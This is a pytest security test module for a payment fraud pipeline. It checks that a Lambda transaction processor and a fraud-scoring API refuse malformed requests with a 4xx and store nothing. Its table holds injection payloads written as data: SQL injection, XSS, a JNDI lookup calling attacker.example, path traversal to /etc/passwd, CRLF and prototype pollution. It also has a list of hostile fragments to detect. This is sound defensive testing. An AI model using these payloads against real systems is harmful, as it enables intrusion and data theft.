"""One table of malformed requests against both entry points: every one is refused with a 4xx and
nothing is stored (PCI DSS 6.2.4: software is protected against injection and malformed input).

The entry points are the transaction processor Lambda (behind `POST /transactions`, on moto) and
fraud-api's `POST /api/v1/score` (on a real PostgreSQL). The fixtures are the services tests'
own, imported from their conftest files, so both run exactly as there. Each service also keeps
its own table for what only it does (fraud-api's 413/415 statuses, the processor's timestamp
window and base64 bodies): tests/services/fraud_api/test_fraud_api_bad_input.py and
tests/services/transaction_processor/test_processor_handler.py.
"""

# The services' fixtures are imported below and then requested by name: that is how pytest shares
# fixtures across directories, and what F811 would flag.
# ruff: noqa: F811
from __future__ import annotations

import base64
import json
from typing import Any

import pytest

# First: aws_fixtures puts fake AWS credentials and region in the environment, and the handler
# modules create their boto3 clients when imported.
from tests.services.aws_fixtures import AlertsTopic, table_items

# isort: split
from transaction_processor import handler as processor

# The services' own fixtures: pytest finds the fixtures a test module imports.
from tests.services.conftest import (  # noqa: F401
    alerts_topic,
    aws,
    lambda_context,
    pipeline_env,
    scoring_parameter,
    transactions_table,
)
from tests.services.fraud_api.app_database import AppDatabase
from tests.services.fraud_api.conftest import client, postgres, shared_database  # noqa: F401
from tests.services.fraud_api.inprocess import InProcessClient
from tests.services.payloads import transaction
from tests.services.transaction_processor.conftest import processor_env  # noqa: F401

BODY_LIMIT_BYTES = 16_384  # both entry points' cap (fraud_scoring.validation.DEFAULT_MAX_BODY_BYTES)


def body(**overrides: Any) -> bytes:
    return json.dumps(transaction(**overrides)).encode()


def replaced(old: str, new: str) -> bytes:
    return body().decode().replace(old, new, 1).encode()


BAD_REQUESTS: dict[str, tuple[str, bytes]] = {
    # category: missing fields
    "missing transaction_id": ("missing field", body(transaction_id=...)),
    "missing amount": ("missing field", body(amount=...)),
    "missing country": ("missing field", body(country=...)),
    "empty object": ("missing field", b"{}"),
    # category: wrong types
    "amount as string": ("wrong type", body(amount="42.50")),
    "amount as boolean": ("wrong type", body(amount=True)),
    "amount as null": ("wrong type", body(amount=None)),
    "user_id as number": ("wrong type", body(user_id=12345)),
    "currency as array": ("wrong type", body(currency=["EUR"])),
    "timestamp as float": ("wrong type", body(timestamp=1.5)),
    "body is an array": ("wrong type", json.dumps([transaction()]).encode()),
    "body is a string": ("wrong type", b'"transaction"'),
    "body is null": ("wrong type", b"null"),
    # category: out of range
    "negative amount": ("out of range", body(amount=-10)),
    "zero amount": ("out of range", body(amount=0)),
    "amount over the cap": ("out of range", body(amount=1_000_000.01)),
    "amount beyond any float": ("out of range", replaced("42.5", "1e999")),
    "integer with 5000 digits": ("out of range", replaced("42.5", "9" * 5000)),
    "lower-case currency": ("out of range", body(currency="eur")),
    "country name": ("out of range", body(country="Germany")),
    "overlong transaction_id": ("out of range", body(transaction_id="t" * 65)),
    # category: oversized
    "body over the cap": ("oversized", body(merchant_id="m" * 64)[:-1] + b', "padding": "' + b"x" * BODY_LIMIT_BYTES + b'"}'),
    "deeply nested JSON": ("oversized", b"[" * 5_000 + b"]" * 5_000),
    # category: injection
    "SQL injection in transaction_id": ("injection", body(transaction_id="1'; DROP TABLE transactions; --")),
    "SQL tautology in user_id": ("injection", body(user_id="u' OR '1'='1")),
    "NoSQL operator in user_id": ("injection", body(user_id={"$ne": None})),
    "script in merchant_id": ("injection", body(merchant_id="<script>alert(1)</script>")),
    "JNDI lookup in merchant_id": ("injection", body(merchant_id="${jndi:ldap://attacker.example/a}")),
    "path traversal in merchant_id": ("injection", body(merchant_id="../../etc/passwd")),
    "CRLF in transaction_id": ("injection", body(transaction_id="txn-1\r\nSet-Cookie: session=x")),
    "NUL byte in user_id": ("injection", body(user_id="user\u0000admin")),
    "look-alike letter in currency": ("injection", body(currency="\u0415UR")),
    "card number in an extra field": ("injection", body(card_number="4111111111111111")),
    "markup as a field name": ("injection", json.dumps({**transaction(), "<img src=x onerror=alert(1)>": 1}).encode()),
    "prototype pollution field": ("injection", json.dumps({**transaction(), "__proto__": {"admin": True}}).encode()),
    # category: not JSON
    "empty body": ("not JSON", b""),
    "whitespace only": ("not JSON", b" \n\t"),
    "form-encoded": ("not JSON", b"transaction_id=1&amount=2"),
    "XML": ("not JSON", b"<transaction><amount>1</amount></transaction>"),
    "truncated JSON": ("not JSON", body()[:-5]),
    "single-quoted keys": ("not JSON", body().replace(b'"', b"'")),
    "trailing comma": ("not JSON", body()[:-1] + b",}"),
    "NaN amount": ("not JSON", replaced("42.5", "NaN")),
    "duplicate key": ("not JSON", body()[:-1] + b', "amount": 1}'),
    "not UTF-8": ("not JSON", body(merchant_id="merchant-1").replace(b"merchant-1", b"merchant-\xff\xfe")),
    "UTF-16": ("not JSON", json.dumps(transaction()).encode("utf-16")),
}
CATEGORIES = {"missing field", "wrong type", "out of range", "oversized", "injection", "not JSON"}
# What a refusal must never echo back: a reflected payload is an injection of its own.
HOSTILE_FRAGMENTS = ("<script", "<img", "${jndi", "DROP TABLE", "Set-Cookie")


def test_the_table_covers_every_category():
    assert {category for category, _ in BAD_REQUESTS.values()} == CATEGORIES
    assert len(BAD_REQUESTS["body over the cap"][1]) > BODY_LIMIT_BYTES


# --- The transaction processor (API Gateway proxy events, moto) ------------------------------------


def gateway_event(raw: bytes) -> dict[str, Any]:
    """What API Gateway hands the Lambda: text as is, anything not UTF-8 base64-encoded, no body as null."""
    try:
        text, encoded = raw.decode("utf-8"), False
    except UnicodeDecodeError:
        text, encoded = base64.b64encode(raw).decode(), True
    return {
        "resource": "/transactions",
        "path": "/transactions",
        "httpMethod": "POST",
        "headers": {"Content-Type": "application/json"},
        "requestContext": {"requestId": "security-test", "stage": "test"},
        "body": text if raw else None,
        "isBase64Encoded": encoded,
    }


def call_processor(raw: bytes, context: Any) -> tuple[int, str]:
    response = processor.handler(gateway_event(raw), context)
    return response["statusCode"], response["body"]


def test_the_processor_accepts_the_table_s_valid_transaction(processor_env: AlertsTopic, lambda_context: Any) -> None:
    status, _ = call_processor(body(), lambda_context)
    assert status == 201
    assert len(table_items()) == 1


@pytest.mark.parametrize("case", list(BAD_REQUESTS))
def test_the_processor_refuses_and_stores_nothing(case: str, processor_env: AlertsTopic, lambda_context: Any) -> None:
    _, raw = BAD_REQUESTS[case]

    status, answer = call_processor(raw, lambda_context)

    assert 400 <= status < 500, f"{case}: {status} {answer[:200]}"
    assert json.loads(answer)["reasons"], "every refusal says what to fix"
    assert not any(fragment in answer for fragment in HOSTILE_FRAGMENTS)
    assert table_items() == []
    assert processor_env.read_alerts() == []


# --- fraud-api (in process, real PostgreSQL) -------------------------------------------------------


def call_fraud_api(client: InProcessClient, raw: bytes) -> tuple[int, str]:
    response = client.post("/api/v1/score", content=raw, headers={"content-type": "application/json"})
    return response.status_code, response.text


def test_fraud_api_accepts_the_table_s_valid_transaction(client: InProcessClient, shared_database: AppDatabase) -> None:
    before = shared_database.count_transactions()
    status, _ = call_fraud_api(client, body())
    assert status == 201
    assert shared_database.count_transactions() == before + 1


@pytest.mark.parametrize("case", list(BAD_REQUESTS))
def test_fraud_api_refuses_and_stores_nothing(case: str, client: InProcessClient, shared_database: AppDatabase) -> None:
    _, raw = BAD_REQUESTS[case]
    before = shared_database.count_transactions()

    status, answer = call_fraud_api(client, raw)

    assert 400 <= status < 500, f"{case}: {status} {answer[:200]}"
    assert json.loads(answer)["errors"], "every refusal says what to fix"
    assert not any(fragment in answer for fragment in HOSTILE_FRAGMENTS)
    assert shared_database.count_transactions() == before
